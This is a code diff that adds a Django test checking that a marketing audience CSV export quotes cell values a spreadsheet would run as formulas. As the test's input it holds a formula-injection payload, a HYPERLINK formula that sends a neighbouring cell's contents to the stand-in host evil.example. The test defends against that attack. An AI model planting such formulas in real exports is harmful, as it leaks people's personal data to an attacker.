@@ -109,6 +109,27 @@ def test_unhashed_exports_need_their_own_permission(campaign, staff_user_in):
     assert audience_export_request(audience=audience, format="plain", mode="full", user=marketer).pk
 
 
+def test_an_unhashed_export_quotes_what_a_spreadsheet_would_run_as_a_formula(
+    capture, staff_user_in, django_capture_on_commit_callbacks
+):
+    attack = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
+    capture(email="victim@example.com", first_name=attack, last_name="-2+3", phone="+16505551212", consent=True)
+    marketer = staff_user_in("Marketing")
+    marketer.user_permissions.add(Permission.objects.get(codename="export_plain_audience"))
+    marketer = type(marketer).objects.get(pk=marketer.pk)  # fresh permission cache
+
+    with django_capture_on_commit_callbacks(execute=True):
+        export = audience_export_request(
+            audience=Audience.objects.create(name="All"), format="plain", mode="full", user=marketer
+        )
+
+    export.refresh_from_db()
+    [header, row] = read(export)
+    assert header[:4] == ["email", "phone", "first_name", "last_name"]
+    # Quoted, so shown as typed; the phone in E.164 stays a number a platform can match.
+    assert row[:4] == ["victim@example.com", "+16505551212", "'" + attack, "'-2+3"]
+
+
 def test_a_flow_step_adds_leads_to_a_static_audience_that_exports_them(make_flow, capture, tick):
     audience = Audience.objects.create(name="Engaged solar", kind="static")
     make_flow({"kind": FlowStep.Kind.AUDIENCE, "audience": audience}, wait_step(days=1))
